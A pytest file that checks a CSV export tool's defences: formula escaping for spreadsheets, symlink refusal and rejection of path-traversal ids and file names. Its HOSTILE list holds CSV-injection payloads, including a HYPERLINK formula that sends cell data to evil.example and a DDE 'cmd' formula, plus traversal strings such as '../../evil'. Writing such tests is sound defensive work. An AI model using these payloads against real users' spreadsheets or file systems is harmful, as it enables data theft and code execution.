"""What strangers wrote into a CSV, on its way out: no formula in a spreadsheet, no file outside of `--out`."""

import csv
import hashlib
import json
import random
from dataclasses import replace

import pytest

from relex.db import examples, jobs, shards
from relex.domain.examples import Outcome, RowError
from relex.domain.jobs import NewJob
from relex.errors import RelexError
from relex.files.writing import FORMULA_STARTS, GUARD, escape_formula, unescape_formula
from relex.flows import control
from relex.flows.export import ExportOptions, export
from tests.factories import example, prediction, register_model, without_cells

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"here\")", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1",
    "\n=1", " =1", "＝1", "＋1", "－1", "＠SUM(1)", "'=1", "''", "'", "a=1", "007", '"=1"', "a,=1", "a\n=1", "a\r\n=1",
]  # fmt: skip


@pytest.fixture
def job(database):
    """A finished job with hostile ids; the last row has an error, whose message is as bad."""
    model = register_model(database)
    rows = [replace(example(n), id=cell) for n, cell in enumerate(HOSTILE)]
    with database.transaction() as tx:
        job_id = jobs.insert_job(tx, NewJob("key", "=1.csv", "0" * 64, model, len(rows), 0))
        examples.copy_in(tx, job_id, without_cells(rows))
        shards.create_shards(tx, job_id, len(rows), 512)
        shard = shards.claim(tx, "worker", 60)
        error = RowError(rows[-1].row_no, "poison", "=1+1")
        shards.complete(tx, shard, Outcome([prediction(item) for item in rows[:-1]], [error]))
        jobs.close_if_ended(tx, job_id)
    return job_id


def read(path, codec="utf-8"):
    with path.open(encoding=codec, newline="") as file:
        return list(csv.reader(file))


def test_the_plain_export_is_the_same_with_and_without(database, job, tmp_path):
    plain, both = (
        export(database, job, tmp_path / "plain"),
        export(database, job, tmp_path / "both", ExportOptions(excel=True)),
    )
    for one, other in ((plain.predictions, both.predictions), (plain.errors, both.errors)):
        assert one.read_bytes() == other.read_bytes()
    assert [row[0] for row in read(plain.predictions)] == ["id", *HOSTILE[:-1]]
    assert plain.spreadsheets == ()
    assert len(list((tmp_path / "plain").iterdir())) == 4


def test_an_earlier_export_leaves_nothing_beside_a_later_one(database, job, tmp_path):
    export(database, job, tmp_path, ExportOptions(excel=True))
    assert len(list(tmp_path.iterdir())) == 6
    with database.transaction() as tx:
        control.retry_job(tx, job, rows=True)
        shard = shards.claim(tx, "worker", 60)
        shards.complete(tx, shard, Outcome([prediction(example(shard.first_row))]))
        jobs.close_if_ended(tx, job)
    export(database, job, tmp_path)
    assert {path.name.removeprefix(job) for path in tmp_path.iterdir()} == {".csv", ".labels.json", ".manifest.json"}


def test_a_spreadsheet_finds_no_formula_and_every_id_can_be_had_back(database, job, tmp_path):
    files = export(database, job, tmp_path, ExportOptions(excel=True))
    assert [path.name for path in files.spreadsheets] == [f"{job}.excel.csv", f"{job}.errors.excel.csv"]
    for plain, copy in zip((files.predictions, files.errors), files.spreadsheets, strict=True):
        text = copy.read_bytes()
        assert text.startswith(b"\xef\xbb\xbf")
        assert text.endswith(b"\r\n")
        cells = [cell for row in read(copy, "utf-8-sig") for cell in row]
        assert not [
            cell for cell in cells if cell.lstrip().startswith(FORMULA_STARTS) or cell.startswith(("\t", "\r", "\n"))
        ]
        assert [[unescape_formula(cell) for cell in row] for row in read(copy, "utf-8-sig")] == read(plain)


def test_any_cell_can_be_had_back():
    generator = random.Random(5)
    letters = [GUARD, *FORMULA_STARTS, *'\t\r\n \u00a0\u3000a가1"', ","]
    for _ in range(2_000):
        cell = "".join(generator.choices(letters, k=generator.randint(0, 4)))
        assert unescape_formula(escape_formula(cell)) == cell
        assert not escape_formula(cell).lstrip().startswith(FORMULA_STARTS)


def test_ordinary_cells_stay_as_they_are():
    assert all(
        escape_formula(cell) == cell for cell in ("KLUE-RE-1", "org:members", "[0.5,0.5]", "비틀즈", "", "a'b", "1e-3")
    )


@pytest.mark.parametrize("end", [".csv", ".errors.csv", ".excel.csv", ".labels.json", ".manifest.json"])
def test_a_link_in_the_folder_is_refused_and_its_target_left(database, job, tmp_path, end):
    out = tmp_path / "out"
    out.mkdir()
    other = tmp_path / "other"
    other.write_text("mine")
    (out / f"{job}{end}").symlink_to(other)
    with pytest.raises(RelexError, match="already exists"):
        export(database, job, out, ExportOptions(excel=True))
    assert other.read_text() == "mine"
    assert [path.name for path in out.iterdir() if path.is_symlink()] == [f"{job}{end}"]
    assert len(list(out.iterdir())) == 1


@pytest.mark.parametrize("end", [".csv", ".errors.csv", ".labels.json"])
def test_an_export_that_somebody_changed_stays(database, job, tmp_path, end):
    first = export(database, job, tmp_path)
    export(database, job, tmp_path)  # the same again is not an error
    changed = tmp_path / f"{job}{end}"
    changed.write_text("fixed by hand")
    before = {path: path.read_bytes() for path in tmp_path.iterdir()}
    with pytest.raises(RelexError, match=rf"{job}{end} already exists with other content"):
        export(database, job, tmp_path)
    assert {path: path.read_bytes() for path in tmp_path.iterdir()} == before
    assert first.manifest in before


def test_a_manifest_vouches_for_nothing_but_its_own_export(database, job, tmp_path):
    out = tmp_path / "out"
    manifest = export(database, job, out).manifest
    other = tmp_path / "other.csv"
    other.write_text("mine")
    content = json.loads(manifest.read_text())
    content["files"] |= {"../other.csv": hashlib.sha256(b"mine").hexdigest()}
    manifest.write_text(json.dumps(content))
    with pytest.raises(RelexError, match=r"manifest\.json already exists with other content"):
        export(database, job, out)
    assert (other.read_text(), json.loads(manifest.read_text())) == ("mine", content)


@pytest.mark.parametrize("evil", ["../../evil", "/evil", "j-../..", "j-abcdef\n", "..", "j-abcdefg"])
@pytest.mark.usefixtures("job")
def test_an_id_that_relex_did_not_give_names_no_file(database, tmp_path, evil):
    """As somebody might put it into the database."""
    with database.transaction() as tx:
        tx.exec_driver_sql(
            "INSERT INTO jobs (id, idempotency_key, file_name, file_sha256, model, total, rejected, "
            "finished_at) SELECT %s, 'k', file_name, file_sha256, model, 1, 0, now() FROM jobs",
            (evil,),
        )
    with pytest.raises(RelexError, match="is not an id that relex gave"):
        export(database, evil, tmp_path / "a" / "b", ExportOptions(partial=True))
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_the_name_of_the_submitted_file_is_no_place(database, job, tmp_path):
    with database.transaction() as tx:
        tx.exec_driver_sql("UPDATE jobs SET file_name = '../../evil.csv'")
    files = export(database, job, tmp_path / "a" / "b")
    assert files.input == "../../evil.csv"
    assert {path.parent for path in tmp_path.rglob("*") if path.is_file()} == {tmp_path / "a" / "b"}
